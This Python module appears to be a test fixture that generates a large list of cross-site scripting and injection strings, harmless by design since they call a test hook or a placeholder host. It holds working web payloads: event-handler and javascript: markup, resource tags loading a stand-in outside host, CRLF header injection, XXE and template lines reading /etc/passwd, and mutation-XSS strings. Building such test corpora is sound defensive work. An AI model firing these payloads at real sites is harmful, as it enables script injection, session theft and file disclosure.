"""Hostile text: pieces of markup and addresses that would run, load or send something if a page took them for its own.

Each calls `ran()`, which the tests put into the page, opens a dialog, or asks a host that is not there. They are put
together from what browsers run (elements, events, schemes) and from the places that text gets into. In the lists the
pictures of control characters stand for those characters.
"""

from itertools import product

ELSEWHERE = "elsewhere.invalid"
_PICTURES = str.maketrans({"␉": "\t", "␊": "\n", "␍": "\r", "␁": "\x01", "␟": "\u200b", "␠": "\u202e"})


def _each(listed: str) -> list[str]:
    return [line.translate(_PICTURES) for line in listed.strip().split("\n")]


_RUNS = (
    "ran()",
    "alert(1)",
    f"fetch('//{ELSEWHERE}/')",
    "top['ran']()",
    "ran`1`",
    "&#114;an()",
    "self[`ra`+`n`]()",
)
_BY_THEMSELVES = _each("""
<img src=x onerror={}>
<IMG SRC=x OnErRoR={}>
<img/src=x/onerror={}>
<img src=x␉onerror␊=␉{}>
<svg onload={}>
<svg/onload={}//
<svg><script>{}</script></svg>
<script>{}</script>
<ScRiPt >{}</ScRiPt >
<script␉>{}//
<script/x>{}</script>
<video src=x onerror={}>
<audio src=x onerror={}>
<video><source onerror={}></video>
<details open ontoggle={}>
<input autofocus onfocus={}>
<select autofocus onfocus={}>
<textarea autofocus onfocus={}>
<button autofocus onfocus={}>
<a autofocus href=# onfocus={}>x</a>
<body onload={}>
<body onpageshow={}>
<iframe onload={}>
<iframe srcdoc="<script>parent.{}</script>">
<object data=x onerror={}>
<embed src=x onerror={}>
<marquee onstart={}>x</marquee>
<style onload={}></style>
<link rel=stylesheet href=x onerror={}>
<p/onmouseover={}>over</p>
<xss style='animation:x 1s' onanimationstart={}>
<div onpointerenter={} style='inset:0'>wide</div>
<svg><animate onbegin={} attributeName=x dur=1s>
<svg><set onbegin={} attributename=x>
<math><mtext><img src=x onerror={}></mtext></math>
<table background=x onload={}><tr><td>t</table>
""")
# What text may have to break out of before it is markup.
_OUT_OF = _each("""
{}
">{}
'>{}
-->{}
]]>{}
</title>{}
</textarea>{}
</script>{}
</style>{}
</noscript>{}
</select>{}
</svg>{}
</a></p>{}
`>{}
\\">{}
<!--><{}
<![CDATA[>{}
""")
_MARKUP = _each("""
<img src=x onerror=ran()>
<script>ran()</script>
<svg onload=alert(1)>
<input autofocus onfocus=ran`1`>
<details open ontoggle=ran()>
<iframe onload=alert(1)>
""")
_EVENTS = _each("""
mouseover
focus
click
error
load
toggle
pointerenter
animationstart
beforematch
keydown
wheel
copy
drag
touchstart
scroll
input
auxclick
contextmenu
blur
""")
_QUOTES = ('" on{}={} x="', "' on{}={} x='", "x on{}={}", '" autofocus tabindex=0 on{}={} "')
_SCHEMES = _each("""
javascript:{}
JaVaScRiPt:{}
java␉script:{}
java␊script:{}
 javascript:{}
␁javascript:{}
javascript&colon;{}
javascript:/*http://*/{}
javascript://%0a{}
vbscript:{}
data:text/html,<script>{}</script>
data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==#{}
http://x/javascript:{}
https://x/"onclick={}//
http://javascript:{}@x/
view-source:javascript:{}
""")
_LOADED = _each("""
<img src={}>
<link rel=stylesheet href={}>
<script src={}></script>
<iframe src={}></iframe>
<object data={}></object>
<embed src={}>
<video poster={}></video>
<audio src={}></audio>
<input type=image src={}>
<meta http-equiv=refresh content='0;url={}'>
<base href={}>
<style>@import '{}';</style>
<p style=background:url({})>p</p>
<svg><image href={} /></svg>
<svg><use href={}#x /></svg>
<link rel=preload as=image href={}>
<link rel=prefetch href={}>
<form action={}><button>Send</button></form>
<a href={} ping={}>x</a>
<body background={}>
<img srcset='{} 1x'>
<frame src={}>
<link rel=manifest href={}>
<link rel=dns-prefetch href={}>
""")
_HOSTS = (
    f"//{ELSEWHERE}/a",
    f"http://{ELSEWHERE}/b",
    f"https:{ELSEWHERE}/c",
    f"\\\\{ELSEWHERE}\\d",
    f"/\\{ELSEWHERE}/e",
)
# Other ways of writing the brackets, which nothing on the way may read as brackets.
_BRACKETS = _each("""
&lt; &gt;
&#60; &#x3e;
%3C %3E
\\u003c \\u003e
\\x3c \\x3e
＜ ＞
+ADw- +AD4-
<␟ >
<␠ >
<< >>
""")
_OTHERS = _each("""
{{7*7}}{{ran()}}
{% raw %}<script>ran()</script>{% endraw %}
${ran()}
#{ran()}
<%= ran() %>
{{''.__class__.__mro__}}
{{config}}
{%include '/etc/passwd'%}
[[ran()]]
constructor.constructor('ran()')()
␍␊Set-Cookie: ran=1
␍␊ATTENDEE:mailto:ran@elsewhere.invalid
␍␊END:VEVENT␍␊BEGIN:VALARM
␍␊␍␊<script>ran()</script>
%0d%0aLocation:%20//elsewhere.invalid
<?xml version='1.0'?><x/>
<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>
<?xml-stylesheet href='//elsewhere.invalid'?>
<x xmlns='http://www.w3.org/1999/xhtml'><script>ran()</script></x>
<h:script xmlns:h='http://www.w3.org/1999/xhtml'>ran()</h:script>
<form id=main><input name=q></form>
<a id=kept_back></a><a id=kept_back name=x></a>
<img name=querySelectorAll>
__proto__
constructor
</html><html><head><script>ran()</script>
'; ran(); '
"; ran(); "
\\'; ran(); //
<noscript><p title='</noscript><img src=x onerror=ran()>'>
<svg></p><style><a id='</style><img src=1 onerror=ran()>'>
<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=ran()&gt;'>
<template><script>ran()</script></template>
<div hx-get=//elsewhere.invalid hx-trigger=load>x</div>
<div hx-on:load=ran()>x</div>
<div data-hx-get=//elsewhere.invalid data-hx-trigger=revealed>x</div>
<a is=x-y onclick=ran()>x</a>
<isindex type=image src=1 onerror=ran()>
<keygen autofocus onfocus=ran()>
""")


def _made() -> tuple[str, ...]:
    marked = [shape.format(code) for shape, code in product(_BY_THEMSELVES, _RUNS)]
    freed = [shape.format(text) for shape, text in product(_OUT_OF, _MARKUP)]
    named = [shape.format(event, code) for shape, event, code in product(_QUOTES, _EVENTS, _RUNS[:2])]
    led = [shape.format(code) for shape, code in product(_SCHEMES, _RUNS)]
    linked = [f"<a href='{shape.format('ran()')}' id=x{n}>x</a>" for n, shape in enumerate(_SCHEMES)]
    loaded = [shape.format(*[host] * shape.count("{}")) for shape, host in product(_LOADED, _HOSTS)]
    written = [
        text.replace("<", opening).replace(">", closing)
        for (opening, closing), text in product((b.split(" ") for b in _BRACKETS), (*_MARKUP, *marked[:9]))
    ]
    return tuple(dict.fromkeys([*marked, *freed, *named, *led, *linked, *loaded, *written, *_OTHERS]))


PAYLOADS = _made()
